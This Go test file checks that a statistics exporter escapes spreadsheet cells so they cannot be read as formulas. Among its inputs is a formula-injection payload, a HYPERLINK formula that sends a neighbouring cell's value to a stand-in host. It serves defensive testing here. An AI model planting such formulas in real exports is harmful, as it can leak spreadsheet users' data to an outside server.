package exporter_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"stats-recorder/exchange/exporter"
)

func spreadsheetOf(t *testing.T, rows ...exporter.Row) string {
	t.Helper()
	var text strings.Builder
	writer, err := exporter.NewWriter(&text, exporter.Spreadsheet, exporter.Origin{})
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := writer.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := writer.Close(); err != nil {
		t.Fatal(err)
	}
	return text.String()
}

func TestASpreadsheetTakesNoTextForAFormula(t *testing.T) {
	t.Parallel()
	for benefit, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A2,"y")`: `'=HYPERLINK("http://x/?"&A2,"y")`,
		"+1+1":                            "'+1+1",
		"-2+3":                            "'-2+3",
		"@SUM(A1)":                        "'@SUM(A1)",
		"\t=1":                            "'\t=1",
		"\r=1":                            "'\r=1",
		" =1":                             "' =1",
		"\n=1":                            "'\n=1",
		"\u00a0=1":                        "'\u00a0=1",
		"＝1":                              "'＝1",
		"\ttext":                          "'\ttext",
		"RSA":                             "RSA",
		"a=b":                             "a=b",
		"aide à l'emploi":                 "aide à l'emploi",
		"'=1":                             "'=1",
	} {
		text := spreadsheetOf(t, exporter.Row{Benefit: benefit, EventType: "=1", Count: 1})
		rest, marked := strings.CutPrefix(text, "\xef\xbb\xbf")
		lines, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
		if !marked || err != nil || len(lines) != 2 {
			t.Fatalf("%q: %v in %q", benefit, err, text)
		}
		// A reader of CSV turns \r\n within quotes into \n.
		if got := lines[1][1]; got != strings.ReplaceAll(want, "\r\n", "\n") || lines[1][2] != "'=1" {
			t.Errorf("%q becomes %q and %q, want %q", benefit, got, lines[1][2], want)
		}
	}
}

func TestASpreadsheetWithoutRowsHasItsMarkAndHeader(t *testing.T) {
	t.Parallel()
	if text := spreadsheetOf(t); text != "\xef\xbb\xbfday,benefit,event_type,version,page_total,benefit_index,count\n" {
		t.Errorf("got %q", text)
	}
}
